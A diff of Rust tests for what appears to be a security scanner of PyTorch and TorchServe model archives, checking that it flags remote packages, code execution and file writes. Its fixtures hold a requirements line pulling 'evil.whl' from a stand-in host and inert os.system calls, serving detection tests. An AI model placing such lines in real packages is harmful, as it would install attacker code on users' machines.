@@ -58,6 +58,16 @@ fn served(manifest: &str) -> Vec<u8> {
 const MANIFEST: &str = r#"{"createdOn": "x", "model": {"modelName": "m", "serializedFile":
     "model.pt", "handler": "handler.py", "requirementsFile": "wants.txt"}}"#;
 
+/// An archive of TorchServe whose manifest names a list of packages, with a file of such a list.
+fn asking(stated: &str, path: &str) -> Vec<u8> {
+    let manifest = format!(r#"{{"model": {{"requirementsFile": "{stated}"}}}}"#);
+    let list = b"torch==2.4.0\nevil @ https://a.example/evil.whl\n";
+    zip_of(&[
+        ZipPart::deflated("MAR-INF/MANIFEST.json", manifest.as_bytes()),
+        ZipPart::deflated(path, list),
+    ])
+}
+
 /// Every fixture.
 pub fn seeds() -> Vec<Seed> {
     let seed = |name: &str, bytes: Vec<u8>| Seed { name: name.to_owned(), bytes };
@@ -67,6 +77,7 @@ pub fn seeds() -> Vec<Seed> {
         seed("texts.pt", script("x = \"\"\"a\"\"\"\ny = 2.\ntorch.autograd.save(x)\n_1 = ops\n")),
         seed("package.pt", package()),
         seed("served.mar", served(MANIFEST)),
+        seed("asking.mar", asking("wants.txt", "wants.txt")),
     ]
 }
 
@@ -188,4 +199,67 @@ fn a_handler_that_is_nowhere_is_unknown_and_one_of_torchserve_is_not() {
 #[test]
 fn a_manifest_that_cannot_be_read_is_a_gap() {
     assert_eq!(examined("m.mar", &served("{")).gaps.len(), 1);
+}
+
+#[test]
+fn a_list_of_packages_is_read_by_every_name() {
+    for path in ["requirements.txt", "model-requirements.txt", "Requirements.txt", "wants.txt"] {
+        let found = examined("m.mar", &asking(path, path));
+        assert_eq!(codes(&found), ["model-remote-code"], "{path}: {found:?}");
+        assert!(found.gaps.is_empty(), "{path}");
+    }
+    for stated in ["./wants.txt", "deep/wants.txt"] {
+        assert_eq!(codes(&examined("m.mar", &asking(stated, "wants.txt"))), ["model-remote-code"]);
+    }
+}
+
+#[test]
+fn a_list_of_packages_that_is_nowhere_is_a_gap() {
+    assert_eq!(examined("m.mar", &asking("wants.txt", "other.bin")).gaps.len(), 1);
+}
+
+#[test]
+fn code_of_a_package_is_told_once() {
+    let found = examined("p.pt", &package());
+    assert_eq!(codes(&found).iter().filter(|code| **code == "model-runs-code").count(), 1);
+    let manifest = r#"{"model": {"handler": "run.py"}}"#;
+    let archive = zip_of(&[
+        ZipPart::deflated("MAR-INF/MANIFEST.json", manifest.as_bytes()),
+        ZipPart::deflated("run.py", b"import os\nos.system(\"echo inert\")\n"),
+    ]);
+    assert_eq!(codes(&examined("m.mar", &archive)), ["model-runs-code", "model-carries-code"]);
+}
+
+#[test]
+fn python_of_a_package_in_the_place_of_torchscript_is_read() {
+    let archive = torch_zip(&[
+        ("pkg/.data/extern_modules", b"torch\n"),
+        ("pkg/constants.pkl", EMPTY),
+        ("pkg/code/__torch__/net.py", b"import os\nos.system(\"echo inert\")\n"),
+    ]);
+    assert!(codes(&examined("p.pt", &archive)).contains(&"model-runs-code"));
+}
+
+#[test]
+fn the_pickle_of_torch_is_a_whole_name_in_any_case() {
+    let other = torch_zip(&[("a/data.pkl", EMPTY), ("a/xdata.pkl", EMPTY), ("a/version", b"3")]);
+    assert!(is_clean(&examined("a.pt", &other)));
+    let twice = torch_zip(&[("a/data.pkl", EMPTY), ("a/DATA.PKL", EMPTY), ("a/version", b"3")]);
+    assert_eq!(codes(&examined("a.pt", &twice)), ["model-odd-container"]);
+}
+
+#[test]
+fn more_pickles_of_torch_than_are_looked_at_are_a_gap() {
+    let paths: Vec<String> = (0..20).map(|number| format!("{number}/data.pkl")).collect();
+    let members: Vec<(&str, &[u8])> = paths.iter().map(|path| (&**path, EMPTY)).collect();
+    assert_eq!(examined("a.pt", &torch_zip(&members)).gaps.len(), 1);
+}
+
+#[test]
+fn torchscript_in_capitals_is_read() {
+    let archive = torch_zip(&[
+        ("net/CONSTANTS.PKL", EMPTY),
+        ("net/CODE/__torch__.PY", b"def f(x):\n  torch.save(x, \"/tmp/x\")\n"),
+    ]);
+    assert_eq!(codes(&examined("net.pt", &archive)), ["model-touches-files"]);
 }
